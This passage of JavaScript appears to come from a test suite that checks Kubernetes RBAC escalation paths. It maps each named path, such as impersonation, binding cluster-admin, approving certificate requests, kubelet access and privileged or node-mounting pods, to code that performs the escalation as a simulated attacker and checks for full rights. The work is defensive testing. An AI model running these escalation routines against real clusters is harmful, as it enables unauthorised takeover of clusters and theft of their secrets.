  'constrained-impersonation to accounts': { run: ({ attacker, uses }) => doesAs(attacker, uses[uses.length - 1]) },
  'constrained-impersonation to cluster-admin': { run: ({ attacker, uses }) => doesAs(attacker, uses[1]) },
  'constrained-impersonation to secrets in the cluster': { run: ({ attacker }) => reads({ ...attacker.credentials, headers: { 'Impersonate-User': 'system:node:recorder' } }) },
  'create-workloads to own-pod': { run: row },
  'create-workloads to own-pod by the name of a new-object': {
    name: fresh('applied'),
    run: use => {
      const { name, uses: [{ resource }] } = use;
      const { spec } = pod(name);
      return createsByName(use, resource === 'pods' ? pod(name)
        : { apiVersion: 'batch/v1', kind: 'Job', metadata: { name, namespace: VICTIM }, spec: { template: { spec: { ...spec, restartPolicy: 'Never' } } } });
    },
  },
  'execute-in-pods to pods': { name: fresh('entered'), run: enters },
  'execute-in-pods to pods by the name of a pod': { name: fresh('entered'), run: enters },
  'attach-ephemeral-containers to pods': { name: fresh('entered'), run: addsContainer },
  'attach-ephemeral-containers to pods by the name of a pod': { name: fresh('entered'), run: addsContainer },
  'modify-pods to pods': { name: fresh('entered'), run: changesImage },
  'modify-pods to pods by the name of a pod': { name: fresh('entered'), run: changesImage },
  'bind-pods-to-nodes to pods': { name: fresh('waiting'), run: assignsPod },
  'bind-pods-to-nodes to pods by the name of a pod': { name: fresh('waiting'), run: assignsPod },
  'bind-roles to administrator': {
    run: async use => await bindsItself(use, use.uses[0].verb, bindingOf('RoleBinding', freshName('bound'), 'cluster-admin', [subjectOf(use.attacker)]))
      && eventually(() => mayDoEverything(use.attacker.credentials, VICTIM)),
  },
  'bind-roles to cluster-admin in the cluster': {
    run: async use => await bindsItself(use, use.uses[0].verb, bindingOf('ClusterRoleBinding', use.uses[0].name ?? freshName('bound'), 'cluster-admin', [subjectOf(use.attacker)]))
      && eventually(() => mayDoEverything(use.attacker.credentials)),
  },
  'bind-roles to administrator by the name of a new-object': {
    name: fresh('bound'),
    run: async use => await createsByName(use, bindingOf('RoleBinding', use.name, 'cluster-admin', [subjectOf(use.attacker)]))
      && eventually(() => mayDoEverything(use.attacker.credentials, VICTIM)),
  },
  'bind-roles to cluster-admin by the name of a new-object in the cluster': {
    name: fresh('bound'),
    run: async use => await createsByName(use, bindingOf('ClusterRoleBinding', use.name, 'cluster-admin', [subjectOf(use.attacker)]))
      && eventually(() => mayDoEverything(use.attacker.credentials)),
  },
  'bind-roles to accounts by the name of a role': bindsTreasureReader('RoleBinding'),
  'bind-roles to accounts by the name of a role in the cluster': bindsTreasureReader('ClusterRoleBinding'),
  'write-and-bind-roles to administrator': {
    run: async use => {
      const { attacker, uses } = use;
      const [writing, , binding] = uses.map(({ verb }) => verb);
      const name = freshName('own');
      const role = { apiVersion: `${RBAC}/v1`, kind: 'Role', metadata: { name, namespace: VICTIM }, rules: [] };
      const change = { rules: [EVERYTHING] };
      const before = writing === 'create' ? undefined : await create(role);
      const { status } = await send(writing, { ...before ?? role, ...change }, change, await pathOf(role, name), attacker);
      return await bindsItself(use, binding, bindingOf('RoleBinding', name, name, [subjectOf(attacker)], 'Role')) && status < 300
        && eventually(() => mayDoEverything(attacker.credentials, VICTIM));
    },
  },
  'write-and-bind-roles to administrator by the name of a bound-role': {
    name: fresh('own'),
    run: async use => {
      const { attacker, name, uses: [{ verb }, , binding] } = use;
      const role = await create({ apiVersion: `${RBAC}/v1`, kind: 'Role', metadata: { name, namespace: VICTIM }, rules: [] });
      const change = { rules: [EVERYTHING] };
      const { status } = await send(verb, { ...role, ...change }, change, await pathOf(role, name), attacker);
      return await bindsItself(use, binding.verb, bindingOf('RoleBinding', freshName('bound'), name, [subjectOf(attacker)], 'Role')) && status < 300
        && eventually(() => mayDoEverything(attacker.credentials, VICTIM));
    },
  },
  'write-and-bind-roles to administrator by the name of a new-object': {
    name: fresh('own'),
    run: async use => {
      const { attacker, name, uses: [, , { verb }] } = use;
      const role = { apiVersion: `${RBAC}/v1`, kind: 'Role', metadata: { name, namespace: VICTIM }, rules: [EVERYTHING] };
      const { status } = await attacker.request('POST', await pathOf(role), { body: role });
      return await bindsItself(use, verb, bindingOf('RoleBinding', freshName('bound'), name, [subjectOf(attacker)], 'Role')) && status === 201
        && eventually(() => mayDoEverything(attacker.credentials, VICTIM));
    },
  },
  'escalate-roles to administrator': { name: fresh('own'), roleName: name => name, run: use => escalates(use, 'Role', use.name, VICTIM) },
  'escalate-roles to administrator by the name of a held-role': { name: fresh('own'), roleName: name => name, run: use => escalates(use, 'Role', use.name, VICTIM) },
  'escalate-roles to cluster-admin in the cluster': { name: fresh('own'), roleName: name => name, run: use => escalates(use, 'ClusterRole', use.name) },
  'escalate-roles to cluster-admin by the name of a held-role in the cluster': { name: fresh('own'), roleName: name => name, run: use => escalates(use, 'ClusterRole', use.name) },
  'aggregate-roles to cluster-admin in the cluster': { needsControllers: true, run: ({ attacker }) => addsToItsRole(attacker) },
  'approve-client-certificates to cluster-admin in the cluster': {
    needsControllers: true,
    name: fresh('csr'),
    run: async ({ attacker, uses, name }) => {
      const user = await certificateFor(attacker, { name, user: CONTROLLER_MANAGER, signer: 'kube-apiserver-client', approval: uses[1] });
      return user !== undefined && becomesAdministrator(attacker, await tokenOf(user, SYSTEM, AGGREGATOR));
    },
  },
  'approve-client-certificates to cluster-admin by the name of a new-object in the cluster': {
    needsControllers: true,
    name: fresh('csr'),
    run: async use => {
      const { attacker, uses, name } = use;
      const user = await certificateFor(attacker, { name, user: CONTROLLER_MANAGER, signer: 'kube-apiserver-client', approval: uses[2], asks: request => createsByName(use, request) });
      return user !== undefined && becomesAdministrator(attacker, await tokenOf(user, SYSTEM, AGGREGATOR));
    },
  },
  'approve-node-certificates to node in the cluster': {
    needsControllers: true,
    name: fresh('csr'),
    run: async ({ attacker, uses, name }) => {
      const node = await certificateFor(attacker, { name, user: 'system:node:recorder', group: 'system:nodes', signer: 'kube-apiserver-client-kubelet', approval: uses[1] });
      return node !== undefined && reads(node);
    },
  },
  'approve-node-certificates to node by the name of a new-object in the cluster': {
    needsControllers: true,
    name: fresh('csr'),
    run: async use => {
      const { attacker, uses, name } = use;
      const node = await certificateFor(attacker, { name, user: 'system:node:recorder', group: 'system:nodes', signer: 'kube-apiserver-client-kubelet', approval: uses[2], asks: request => createsByName(use, request) });
      return node !== undefined && reads(node);
    },
  },
  'create-node-certificates to node in the cluster': {
    needsControllers: true,
    name: fresh('csr'),
    run: async ({ attacker, uses, name }) => {
      const node = await certificateFor(attacker, { name, user: 'system:node:recorder', group: 'system:nodes', signer: 'kube-apiserver-client-kubelet', reading: uses[2] });
      return node !== undefined && reads(node);
    },
  },
  'create-node-certificates to node by the name of a new-object in the cluster': {
    needsControllers: true,
    name: fresh('csr'),
    run: async use => {
      const { attacker, uses, name } = use;
      const node = await certificateFor(attacker, { name, user: 'system:node:recorder', group: 'system:nodes', signer: 'kube-apiserver-client-kubelet', reading: uses[1], asks: request => createsByName(use, request) });
      return node !== undefined && reads(node);
    },
  },
  'kubelet-api-access to nodes in the cluster': { needsOuterAddress: true, run: ({ attacker, uses: [{ verb }] }) => reachesKubelet(attacker, verb, freshName('node')) },
  'kubelet-api-access to node in the cluster': { needsOuterAddress: true, name: fresh('node'), run: ({ attacker, uses: [{ verb }], name }) => reachesKubelet(attacker, verb, name) },
  'modify-namespaces to node': { namespace: GUARDED, run: runsPrivilegedPod },
  'modify-namespaces to node by the name of a namespace': { namespace: GUARDED, name: () => GUARDED, run: runsPrivilegedPod },
  'create-persistent-volumes to node': { needsControllers: true, namespace: GUARDED, run: ({ attacker }) => mountsNodeVolume(attacker) },
  'create-persistent-volumes to node by the name of a new-object': {
    needsControllers: true, namespace: GUARDED, name: fresh('volume'), run: use => mountsNodeVolume(use.attacker, GUARDED, use.name, volume => createsByName(use, volume)),
  },
  'modify-mutating-webhooks to cluster-admin in the cluster': { name: fresh('webhook'), run: mutatesByWebhook },
  'modify-mutating-policies to cluster-admin in the cluster': { name: fresh('policy'), run: mutatesByPolicy },
  'modify-csi-drivers to accounts in the cluster': { name: () => `${freshName('driver')}.example.com`, run: asksForTokens },
};

export const hasOuterAddress = outerAddress() !== undefined;
